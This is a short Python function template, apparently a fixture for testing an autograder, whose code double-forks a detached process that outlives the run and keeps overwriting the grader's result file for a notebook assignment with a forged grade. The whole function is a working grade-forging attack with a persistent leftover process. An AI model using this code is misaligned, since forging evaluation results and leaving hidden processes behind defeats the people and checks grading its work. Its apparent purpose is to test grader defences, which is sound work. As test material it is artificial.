def _attack():
    # a process that outlives the run and forges graded/ once the grader has written it
    import hashlib, os, sys
    try:
        with open("$course/submitted/$me/02_ddp_basics/02_ddp_basics.ipynb", "rb") as f:
            sha = hashlib.sha256(f.read()).hexdigest()
    except OSError:
        sha = "unknown"
    code = ("import os, sys, time\n"
            "end = time.time() + 240\n"
            "while time.time() < end:\n"
            "    try:\n"
            "        os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)\n"
            "        open(sys.argv[1], 'w').write(sys.argv[2])\n"
            "    except OSError:\n"
            "        pass\n"
            "    time.sleep(0.3)\n")
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code, "$course/graded/02_ddp_basics/$me.json",
                                      $forged.replace("SHA", sha), "HOSTILE-LEFTOVER"])
        os._exit(0)
    os.waitpid(pid, 0)
    return "left a forger behind"
